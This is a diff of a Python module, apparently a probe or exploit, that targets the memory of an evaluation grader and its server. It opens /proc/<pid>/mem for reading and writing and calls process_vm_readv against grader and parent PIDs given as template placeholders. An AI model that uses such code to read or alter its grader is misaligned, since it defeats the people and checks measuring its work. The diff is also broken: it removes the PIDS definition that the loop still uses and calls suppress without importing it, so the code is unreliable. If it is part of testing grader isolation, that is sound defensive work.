@@ -1,14 +1,9 @@
 """Reads and writes the memory of the grader and of its server."""
 
 import ctypes
-import functools
 import os
 
-PIDS = [pid for pid in {int("@grader@"), int("@server@"), os.getppid()} if pid > 1]
-
-
-@functools.cache
-def attack():
+def attack_once():
     libc, won = ctypes.CDLL(None, use_errno=True), []
     local = ctypes.create_string_buffer(8)
 
@@ -17,11 +12,9 @@ def attack():
 
     for pid in PIDS:
         for name, flags in (("mem", os.O_RDONLY), ("mem", os.O_RDWR), ("maps", os.O_RDONLY)):
-            try:
+            with suppress(OSError):
                 os.close(os.open(f"/proc/{pid}/{name}", flags))
                 won.append((pid, name))
-            except OSError:
-                pass
         ours = Piece(ctypes.addressof(local), 8)
         theirs = Piece(id(None), 8)
         if libc.process_vm_readv(pid, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0) == 8:
